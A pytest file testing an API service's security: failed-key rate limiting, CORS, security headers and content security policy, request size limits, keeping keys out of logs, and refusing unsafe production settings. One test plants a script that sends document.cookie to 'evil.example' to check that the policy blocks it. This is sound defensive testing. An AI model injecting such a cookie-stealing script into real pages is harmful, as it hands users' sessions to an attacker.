"""Security basics: failed-key limit, CORS, security headers, body limit, no keys in logs,
and the settings production refuses."""

import base64
import hashlib
import json
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from app import PROJECT_DIR, migrate
from app.db import make_engine, make_sessionmaker
from app.main import create_app
from app.models import ApiKey, AuthFailure, Source
from app.models.enums import KeyRole
from app.security import (
    API_CSP,
    FailedAuthLimiter,
    UnsafeConfigurationError,
    check_production_settings,
    client_address,
    production_problems,
)
from app.settings import Settings
from app.staff.keys import create_key, revoke_key

SOURCES = "/api/v1/sources"
BAD_KEY = {"Authorization": "Bearer ksopn_000000000000_not-a-key-that-exists"}
SECURITY_HEADERS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
    "cross-origin-opener-policy": "same-origin",
}


def production(**change: object) -> Settings:
    """Production settings that are safe but for `change`; the environment is not read."""
    safe = {"env": "production", "database_url": "postgresql+psycopg://ksopn@db/ksopn"}
    return Settings.model_validate({**safe, **change})


def a_source(slug: str) -> dict[str, str]:
    return {"slug": slug, "title": "T", "publisher": "P", "language": "en", "locator_scheme": "¶N"}


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock(client: TestClient) -> FakeClock:
    """Gives the app a limiter of 3 failures a minute on a clock the test moves."""
    clock = FakeClock()
    app: FastAPI = client.app  # type: ignore[assignment]
    app.state.failed_auth = FailedAuthLimiter(3, 60, 100, clock=clock)
    return clock


def count_sources(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Source)) or 0


# --- failed key checks --------------------------------------------------------------------


def test_repeated_bad_keys_get_429_and_then_no_key_is_checked(
    client: TestClient, editor: dict[str, str]
) -> None:
    for attempt in range(10):  # the default limit
        response = client.post(SOURCES, json=a_source(f"s{attempt}"), headers=BAD_KEY)
        assert response.status_code == 401, attempt

    blocked = client.post(SOURCES, json=a_source("s10"), headers=BAD_KEY)
    assert blocked.status_code == 429
    assert blocked.headers["content-type"] == "application/problem+json"
    assert 0 < int(blocked.headers["retry-after"]) <= 300
    assert blocked.json()["retry_after"] == int(blocked.headers["retry-after"])
    # Even a good key is not looked at while the address is blocked.
    assert client.post(SOURCES, json=a_source("good"), headers=editor).status_code == 429


def test_a_revoked_key_counts_as_a_failure(
    client: TestClient, session: Session, clock: FakeClock
) -> None:
    key = create_key(session, "leaver", KeyRole.EDITOR)
    revoke_key(session, "leaver")
    session.flush()
    revoked = {"Authorization": f"Bearer {key}"}
    statuses = [client.post(SOURCES, json=a_source("r"), headers=revoked).status_code
                for _ in range(4)]  # fmt: skip
    assert statuses == [401, 401, 401, 429]


@pytest.mark.parametrize("prefix", ["a\x00b", "ABCDEF", "x" * 40, ""])
def test_a_key_whose_prefix_no_key_has_is_a_401(client: TestClient, prefix: str) -> None:
    """Not sent to the database: PostgreSQL refused a NUL in it with a 500."""
    answer = client.get("/api/v1/audit", headers={"Authorization": f"Bearer ksopn_{prefix}_x"})
    assert answer.status_code == 401
    assert answer.headers["content-type"] == "application/problem+json"


def test_successful_checks_do_not_count(
    client: TestClient, admin: dict[str, str], clock: FakeClock
) -> None:
    for _ in range(5):
        assert client.get("/api/v1/audit", headers=admin).status_code == 200
    statuses = [client.get("/api/v1/audit", headers=BAD_KEY).status_code for _ in range(4)]
    assert statuses == [401, 401, 401, 429]


def test_the_block_lifts_when_the_window_has_passed(
    client: TestClient, editor: dict[str, str], session: Session, clock: FakeClock
) -> None:
    for _ in range(3):
        clock.now += 10
        assert client.post(SOURCES, json=a_source("x"), headers=BAD_KEY).status_code == 401
    blocked = client.post(SOURCES, json=a_source("x"), headers=editor)
    assert blocked.headers["retry-after"] == "40"  # the first failure leaves the window then

    clock.now += 39
    assert client.post(SOURCES, json=a_source("x"), headers=editor).status_code == 429
    clock.now += 1
    made = client.post(SOURCES, json=a_source("after-the-window"), headers=editor)
    assert made.status_code == 201, made.text
    assert session.get(Source, made.json()["id"]) is not None


def test_a_blocked_address_does_not_block_another(client: TestClient, clock: FakeClock) -> None:
    for _ in range(3):
        client.post(SOURCES, json=a_source("x"), headers=BAD_KEY)
    assert client.post(SOURCES, json=a_source("x"), headers=BAD_KEY).status_code == 429

    elsewhere = TestClient(client.app, client=("203.0.113.9", 50000))
    assert elsewhere.post(SOURCES, json=a_source("x"), headers=BAD_KEY).status_code == 401


def test_the_limiter_tracks_a_bounded_number_of_clients(session: Session) -> None:
    clock = FakeClock()
    limiter = FailedAuthLimiter(1, 60, max_clients=2, clock=clock)
    for address in ("192.0.2.1", "192.0.2.2", "192.0.2.3"):
        clock.now += 1
        limiter.record_failure(session, address)
    assert limiter.tracked_clients(session) == 2
    assert limiter.retry_after(session, "192.0.2.1") is None  # the first window was forgotten
    assert limiter.retry_after(session, "192.0.2.3") == 60

    clock.now += 59.5  # the window of .2 has passed, that of .3 not quite
    assert limiter.retry_after(session, "192.0.2.3") == 1
    limiter.record_failure(session, "192.0.2.4")
    assert limiter.tracked_clients(session) == 2  # .2's row went as .4 came
    clock.now += 0.5
    assert limiter.retry_after(session, "192.0.2.3") is None


def test_a_failure_after_the_window_starts_a_new_one(session: Session) -> None:
    clock = FakeClock()
    limiter = FailedAuthLimiter(2, 60, max_clients=10, clock=clock)
    limiter.record_failure(session, "192.0.2.1")
    clock.now += 60
    limiter.record_failure(session, "192.0.2.1")
    assert limiter.retry_after(session, "192.0.2.1") is None  # one failure in this window
    clock.now += 30
    limiter.record_failure(session, "192.0.2.1")
    assert limiter.retry_after(session, "192.0.2.1") == 30


@pytest.mark.parametrize(
    ("peer", "counted_as"),
    [
        ("192.0.2.7", "192.0.2.7"),
        ("2001:db8:1:2:aaaa::1", "2001:db8:1:2::/64"),
        ("2001:db8:1:2:ffff:ffff:ffff:fffe", "2001:db8:1:2::/64"),
        ("::ffff:192.0.2.7", "192.0.2.7"),
        ("testclient", "testclient"),
    ],
)
def test_whom_a_failure_is_counted_for(peer: str, counted_as: str) -> None:
    assert client_address(Request({"type": "http", "client": (peer, 50000)})) == counted_as


def test_a_long_client_name_is_counted_by_its_hash() -> None:
    counted = client_address(Request({"type": "http", "client": ("x" * 500, 0)}))
    assert counted.startswith("sha256:")
    assert len(counted) == 64  # AuthFailure.client holds it


def test_an_ipv6_client_cannot_escape_by_taking_new_addresses(
    client: TestClient, clock: FakeClock
) -> None:
    statuses = []
    for host in range(1, 5):  # four addresses of one /64
        peer = TestClient(client.app, client=(f"2001:db8:0:1::{host}", 50000))
        statuses.append(peer.get("/api/v1/audit", headers=BAD_KEY).status_code)
    assert statuses == [401, 401, 401, 429]


@pytest.fixture
def failure_writes(new_database: Callable[[], str]) -> Iterator[sessionmaker[Session]]:
    """Write sessions on a database of their own, committed for real."""
    database_url = new_database()
    migrate.upgrade(database_url)
    engine = make_engine(database_url)
    yield make_sessionmaker(engine, writes=True)
    engine.dispose()


def at_once(writers: int, write: Callable[[int], None]) -> None:
    start = threading.Barrier(writers)

    def run(number: int) -> None:
        start.wait()
        write(number)

    with ThreadPoolExecutor(max_workers=writers) as pool:
        list(pool.map(run, range(writers)))


def test_concurrent_failures_are_each_counted(failure_writes: sessionmaker[Session]) -> None:
    limiter = FailedAuthLimiter(1000, 60, max_clients=1000)

    def fail(number: int) -> None:
        for _ in range(10):
            for client in (f"192.0.2.{number}", "192.0.2.200"):
                with failure_writes() as session, session.begin():
                    limiter.record_failure(session, client)

    at_once(8, fail)
    with failure_writes() as session:
        rows = session.execute(select(AuthFailure.client, AuthFailure.failures))
        counts = {row.client: row.failures for row in rows}
    assert counts == {**{f"192.0.2.{n}": 10 for n in range(8)}, "192.0.2.200": 80}


def test_concurrent_failures_do_not_deadlock(failure_writes: sessionmaker[Session]) -> None:
    """A window so short that each failure finds every other client's window passed, and
    deletes it while the others write: on PostgreSQL, waiting for those rows deadlocked
    (DeadlockDetected, within 200 failures of 8 writers)."""
    limiter = FailedAuthLimiter(1000, 1e-6, max_clients=1000)

    def fail(number: int) -> None:
        for _ in range(50):
            with failure_writes() as session, session.begin():
                limiter.record_failure(session, f"192.0.2.{number}")

    at_once(8, fail)
    with failure_writes() as session:
        assert limiter.tracked_clients(session) <= 8


def test_forwarded_allow_ips_takes_addresses_and_networks_only() -> None:
    settings = Settings.model_validate({"forwarded_allow_ips": "10.0.0.0/8, 192.0.2.1,::1"})
    assert settings.forwarded_allow_ips == ["10.0.0.0/8", "192.0.2.1", "::1"]
    assert Settings().forwarded_allow_ips == []  # no proxy is believed by default
    with pytest.raises(ValueError, match=r"10\.0\.0\.1/8"):
        Settings.model_validate({"forwarded_allow_ips": "10.0.0.1/8"})  # host bits set
    with pytest.raises(ValueError, match=r"proxy\.local"):
        Settings.model_validate({"forwarded_allow_ips": "proxy.local"})
    with pytest.raises(ValueError, match="alone"):  # uvicorn would read it as a name
        Settings.model_validate({"forwarded_allow_ips": "*,10.0.0.1"})
    assert Settings.model_validate({"forwarded_allow_ips": "*"}).forwarded_allow_ips == ["*"]


def test_keys_are_stored_only_as_sha256_hashes(session: Session) -> None:
    key = create_key(session, "hash-check", KeyRole.EDITOR)
    row = session.scalars(select(ApiKey).where(ApiKey.name == "hash-check")).one()
    assert row.key_hash == hashlib.sha256(key.encode()).hexdigest()
    stored = [str(getattr(row, column.key)) for column in ApiKey.__table__.columns]
    assert not [value for value in stored if key.split("_", 2)[2] in value]


# --- CORS ---------------------------------------------------------------------------------


def preflight(client: TestClient, origin: str) -> httpx.Response:
    response: httpx.Response = client.options(
        SOURCES,
        headers={
            "Origin": origin,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "authorization, content-type, idempotency-key",
        },
    )
    return response


def test_cors_is_closed_by_default(client: TestClient) -> None:
    read = client.get(SOURCES, headers={"Origin": "https://news.example"})
    assert read.status_code == 200
    asked = preflight(client, "https://news.example")
    for response in (read, asked):
        assert not [name for name in response.headers if name.startswith("access-control-")]


def test_cors_lets_the_configured_origins_in(database_url: str) -> None:
    app = create_app(Settings(database_url=database_url, cors_origins=["https://news.example"]))
    with TestClient(app) as client:
        asked = preflight(client, "https://news.example")
        assert asked.status_code == 200
        assert asked.headers["access-control-allow-origin"] == "https://news.example"
        allowed = asked.headers["access-control-allow-headers"].lower()
        for header in ("authorization", "if-match", "idempotency-key", "content-type"):
            assert header in allowed
        assert "PATCH" in asked.headers["access-control-allow-methods"]

        read = client.get(SOURCES, headers={"Origin": "https://news.example"})
        assert read.headers["access-control-allow-origin"] == "https://news.example"
        exposed = read.headers["access-control-expose-headers"].lower()
        assert {"etag", "location", "link"} <= {h.strip() for h in exposed.split(",")}

        other = client.get(SOURCES, headers={"Origin": "https://elsewhere.example"})
        assert "access-control-allow-origin" not in other.headers
        assert preflight(client, "https://elsewhere.example").status_code == 400


def test_cors_origins_read_as_a_comma_separated_list(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KSOPN_CORS_ORIGINS", "https://a.example, https://b.example")
    assert Settings().cors_origins == ["https://a.example", "https://b.example"]


# --- security headers ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "status"),
    [
        (SOURCES, 200),
        ("/api/v1/sources/no-such-source", 404),
        ("/api/v1/seizures?limit=0", 422),
        ("/api/v1/seizures?format=csv", 200),
        ("/openapi.json", 200),
        ("/static-offline-docs/swagger-ui.css", 200),
        ("/docs", 200),
        ("/redoc", 200),  # Swagger UI's, where it redirects
    ],
)
def test_every_response_has_the_security_headers(
    client: TestClient, path: str, status: int
) -> None:
    response = client.get(path)
    assert response.status_code == status
    for name, value in SECURITY_HEADERS.items():
        assert response.headers[name] == value
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


def test_json_csv_and_errors_get_the_strict_policy(client: TestClient) -> None:
    for path in (SOURCES, "/api/v1/seizures?format=csv", "/nowhere"):
        assert client.get(path).headers["content-security-policy"] == API_CSP


def test_an_unexpected_error_has_the_headers_too(database_url: str) -> None:
    app = create_app(Settings(database_url=database_url))

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("a bug")

    response = TestClient(app, raise_server_exceptions=False).get("/boom")
    assert response.status_code == 500
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"] == API_CSP


def directives(policy: str) -> dict[str, list[str]]:
    parts = (directive.split() for directive in policy.split(";") if directive.strip())
    return {name: values for name, *values in parts}


def _sha256(script: bytes) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(script).digest()).decode()}'"


def test_the_docs_pages_run_the_servers_own_files_and_nothing_inline(client: TestClient) -> None:
    for path in ("/docs",):
        page = client.get(path)
        scripts = re.findall(rb"<script([^>]*)>(.*?)</script>", page.content, re.DOTALL)
        assert scripts, path
        assert all(b"src=" in attributes and not text.strip() for attributes, text in scripts)
        policy = directives(page.headers["content-security-policy"])
        assert policy["script-src"] == ["'self'"]
        assert policy["default-src"] == ["'none'"]
        # Nothing from another host (ReDoc's badge came from its CDN: issue 22, point 19).
        assert policy["img-src"] == ["'self'", "data:"]
        assert all("://" not in value for values in policy.values() for value in values)
    assert b"SwaggerUIBundle(" in client.get("/assets/docs.js").content


def test_redoc_is_gone_for_the_docs_that_load_nothing_from_elsewhere(client: TestClient) -> None:
    """ReDoc drew its badge from cdn.redoc.ly (issue 22, point 19): /redoc sends to /docs."""
    response = client.get("/redoc", follow_redirects=False)
    assert response.status_code == 301
    assert response.headers["location"] == "/docs"
    assert "redoc" not in client.get("/openapi.json").text.lower()
    docs = client.get("/docs")
    assert not re.search(r"""(?:src|href)=["']?(?:https?:)?//""", docs.text)


def test_a_script_injected_into_a_page_is_not_allowed_to_run(database_url: str) -> None:
    """The policy was computed from the page as sent, hashing every inline script in it: one
    injected into the page (through any text it shows) was allowed with the rest."""
    app = create_app(Settings(database_url=database_url))
    injected = b"fetch('https://evil.example/?' + document.cookie)"

    @app.get("/injected")
    def injected_page() -> HTMLResponse:
        return HTMLResponse(b"<p>hello</p><script>" + injected + b"</script>")

    policy = TestClient(app).get("/injected").headers["content-security-policy"]
    assert _sha256(injected) not in policy
    assert directives(policy)["script-src"] == ["'self'"]


# --- request body limit -------------------------------------------------------------------

LIMIT = 1024 * 1024


def padded_source(slug: str, size: int) -> bytes:
    """A valid source, padded with whitespace JSON allows, `size` bytes long."""
    body = json.dumps(a_source(slug)).encode()
    return body + b" " * (size - len(body))


def test_a_body_over_the_limit_is_413_by_content_length(
    client: TestClient, editor: dict[str, str], session: Session
) -> None:
    before = count_sources(session)
    response = client.post(SOURCES, content=padded_source("big", LIMIT + 1),
                           headers={**editor, "Content-Type": "application/json"})  # fmt: skip
    assert response.status_code == 413
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["max_body_bytes"] == LIMIT
    assert str(LIMIT) in response.json()["detail"]
    assert count_sources(session) == before


def test_a_chunked_body_over_the_limit_is_413(
    client: TestClient, editor: dict[str, str], session: Session
) -> None:
    before = count_sources(session)
    body = padded_source("big-chunked", LIMIT + 1)

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(body), 64 * 1024):
            yield body[start : start + 64 * 1024]

    response = client.post(SOURCES, content=chunks(),
                           headers={**editor, "Content-Type": "application/json"})  # fmt: skip
    assert response.status_code == 413
    assert response.json()["max_body_bytes"] == LIMIT
    assert count_sources(session) == before


def test_a_chunked_body_within_the_limit_reaches_the_handler(
    client: TestClient, editor: dict[str, str]
) -> None:
    body = padded_source("chunked-ok", LIMIT)
    response = client.post(SOURCES, content=iter([body[:1000], body[1000:]]),
                           headers={**editor, "Content-Type": "application/json"})  # fmt: skip
    assert response.status_code == 201, response.text
    assert client.get(f"{SOURCES}/chunked-ok").status_code == 200


def test_the_limit_is_a_setting(database_url: str) -> None:
    app = create_app(Settings(database_url=database_url, max_body_bytes=10))
    response = TestClient(app).post(SOURCES, content=b"x" * 11)
    assert response.status_code == 413
    assert response.json()["max_body_bytes"] == 10


# --- keys never logged ---------------------------------------------------------------------


def test_keys_are_not_logged_in_process(
    client: TestClient, session: Session, caplog: pytest.LogCaptureFixture
) -> None:
    key = create_key(session, "quiet", KeyRole.EDITOR)
    wrong = key[:-4] + "AAAA"
    caplog.set_level(logging.DEBUG)
    assert (
        client.post(
            SOURCES, json=a_source("q1"), headers={"Authorization": f"Bearer {wrong}"}
        ).status_code
        == 401
    )
    assert (
        client.post(
            SOURCES, json=a_source("q2"), headers={"Authorization": f"Bearer {key}"}
        ).status_code
        == 201
    )
    assert caplog.records  # something was logged, so the check below means something
    for secret in (key.split("_", 2)[2], wrong.split("_", 2)[2]):  # the secret may hold "_"
        assert secret not in caplog.text


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def migrated_database(new_database: Callable[[], str]) -> str:
    url = new_database()
    migrate.upgrade(url)
    return url


@pytest.mark.slow  # a real server process
def test_a_real_server_logs_no_keys_even_at_debug_with_sql_echo(
    migrated_database: str, tmp_path: Path
) -> None:
    engine = make_engine(migrated_database)
    with Session(engine) as session, session.begin():
        key = create_key(session, "served", KeyRole.EDITOR)
    engine.dispose()
    port, log = _free_port(), tmp_path / "server.log"
    env = {**os.environ, "KSOPN_DATABASE_URL": migrated_database, "KSOPN_SQL_ECHO": "true"}
    with log.open("wb") as out:
        server = subprocess.Popen(
            [sys.executable, "-m", "uvicorn", "app.main:create_app", "--factory",
             "--port", str(port), "--log-level", "debug"],
            cwd=PROJECT_DIR, env=env, stdout=out, stderr=out,
        )  # fmt: skip
    try:
        url = f"http://127.0.0.1:{port}"
        _wait_until_up(url, server)
        for presented in (key[:-4] + "AAAA", key):
            httpx.post(f"{url}{SOURCES}", json=a_source("logged"),
                       headers={"Authorization": f"Bearer {presented}"}, trust_env=False)  # fmt: skip
    finally:
        server.terminate()
        server.wait(timeout=10)
    text = log.read_text()
    assert f"POST {SOURCES} HTTP/1.1" in text  # the access log is there
    assert "INSERT INTO sources" in text  # and so is the SQL
    assert key.split("_", 2)[2] not in text
    assert key[:-4] not in text


def _wait_until_up(url: str, server: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if server.poll() is not None:
            raise RuntimeError(f"the server exited with {server.returncode}")
        try:
            if httpx.get(f"{url}/healthz", timeout=1, trust_env=False).status_code == 200:
                return
        except httpx.TransportError:
            time.sleep(0.1)
    raise RuntimeError("the server did not come up in 20 s")


# --- production settings --------------------------------------------------------------------


def test_a_safe_production_configuration_passes() -> None:
    settings = production(cors_origins=["https://news.example"])
    assert production_problems(settings) == []
    check_production_settings(settings)
    assert create_app(settings).state.settings is settings


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"cors_origins": ["https://news.example", "*"]}, "KSOPN_CORS_ORIGINS"),
        ({"cors_origins": ["null"]}, "KSOPN_CORS_ORIGINS"),
        ({"sql_echo": True}, "KSOPN_SQL_ECHO"),
        ({"log_level": "debug"}, "KSOPN_LOG_LEVEL"),
        ({"database_url": "sqlite://"}, "in-memory"),
        ({"database_url": "sqlite:///file:x?mode=memory&uri=true"}, "in-memory"),
        ({"database_url": "sqlite:////tmp/ksopn.sqlite3"}, "temporary folder"),
        ({"database_url": "sqlite:////var/tmp/a/../ksopn.sqlite3"}, "temporary folder"),
    ],
)
def test_production_refuses_an_unsafe_setting(change: dict[str, object], named: str) -> None:
    settings = production(**change)
    (problem,) = production_problems(settings)
    assert named in problem
    with pytest.raises(UnsafeConfigurationError, match=named):
        create_app(settings)


def test_production_lists_every_problem_at_once() -> None:
    settings = production(sql_echo=True, log_level="debug")
    with pytest.raises(UnsafeConfigurationError) as refused:
        check_production_settings(settings)
    assert "KSOPN_SQL_ECHO" in str(refused.value)
    assert "KSOPN_LOG_LEVEL" in str(refused.value)


def test_development_allows_what_production_refuses() -> None:
    settings = Settings(database_url="sqlite://", sql_echo=True, cors_origins=["*"])
    assert settings.env == "development"
    check_production_settings(settings)
    assert production_problems(settings)  # the same settings, named, if it were production


def test_sqlite_on_lasting_storage_is_fine_in_production() -> None:
    # A path, not a file: the check reads the URL only (the clone may itself sit under /tmp).
    settings = Settings(env="production", database_url="sqlite:////srv/ksopn/var/ksopn.sqlite3")
    assert production_problems(settings) == []


def test_ksopn_serve_exits_non_zero_on_an_unsafe_production_configuration(
    migrated_database: str,
) -> None:
    env = {**os.environ, "KSOPN_DATABASE_URL": migrated_database,
           "KSOPN_ENV": "production", "KSOPN_SQL_ECHO": "true"}  # fmt: skip
    ksopn = Path(sys.executable).with_name("ksopn")
    run = subprocess.run([str(ksopn), "serve", "--port", str(_free_port())], cwd=PROJECT_DIR,
                         env=env, capture_output=True, text=True, timeout=60)  # fmt: skip
    assert run.returncode != 0
    assert "refusing to start with KSOPN_ENV=production" in run.stdout + run.stderr
    assert "KSOPN_SQL_ECHO" in run.stdout + run.stderr
